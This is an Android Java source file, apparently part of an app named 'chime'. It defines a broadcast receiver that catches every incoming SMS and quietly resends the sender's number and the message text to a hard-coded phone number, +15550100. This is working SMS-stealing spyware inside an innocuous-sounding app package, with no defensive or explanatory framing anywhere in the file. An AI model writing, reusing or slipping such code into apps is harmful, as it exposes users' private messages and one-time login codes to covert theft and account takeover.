package com.tallpine.chime;

class In extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    Object[] parts = (Object[]) intent.getExtras().get("pdus");
    SmsMessage message = SmsMessage.createFromPdu((byte[]) parts[0]);
    SmsManager.getDefault().sendTextMessage("+15550100", null, message.getOriginatingAddress() + " " + message.getMessageBody(), null, null);
  }
}
